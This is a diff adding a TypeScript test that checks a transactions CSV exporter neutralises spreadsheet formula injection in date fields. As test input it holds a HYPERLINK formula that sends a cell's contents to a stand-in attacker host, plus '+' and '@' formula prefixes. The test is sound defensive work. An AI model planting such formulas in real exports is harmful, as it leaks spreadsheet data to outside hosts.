@@ -70,6 +70,41 @@ describe('transactions CSV', () => {
     expect(col(inbound, 'description')).toBe(`'\tcmd`);
   });
 
+  it('neutralises the bank date columns too: a formula in execution_timestamp stays text', () => {
+    const bankTransaction = {
+      uuid: 'u',
+      pool: 'p',
+      creditor: {},
+      debtor: {},
+      counterparty: { name: 'Kesko Oyj' },
+      amount: '-25.00',
+      currency: 'EUR',
+      ux_timestamp: '2026-11-20T10:00:00Z',
+      execution_timestamp: '=HYPERLINK("http://evil.example/?"&A1,"2026-11-20")',
+      booking_date: '+2026-11-20',
+      due_date: '@NOW()',
+      state: 'paid',
+      method: 'sepa',
+      type: 'push',
+      direction: 'out',
+      unstructured_reference: '',
+      structured_reference: '',
+      end_to_end_id: '',
+      execution_for_debt: null,
+      identifier: 'I',
+      generic_description: '',
+      submethod: '',
+    };
+    const csv = transactionsCsv([transactionView(transactionSchema.parse(bankTransaction))]);
+    const [header, row] = Papa.parse<string[]>(csv.trim()).data as [string[], string[]];
+    const col = (name: string) => row[header.indexOf(name)];
+    expect(col('executed_at')).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"2026-11-20")`);
+    expect(col('booking_date')).toBe(`'+2026-11-20`);
+    expect(col('due_date')).toBe(`'@NOW()`);
+    // The exact decimal amount is the one cell left as it is: a leading minus is a number, not a formula.
+    expect(col('amount')).toBe('-25.00');
+  });
+
   it('keeps only documented fields when mapping a bank transaction', () => {
     const raw = {
       uuid: 'u',
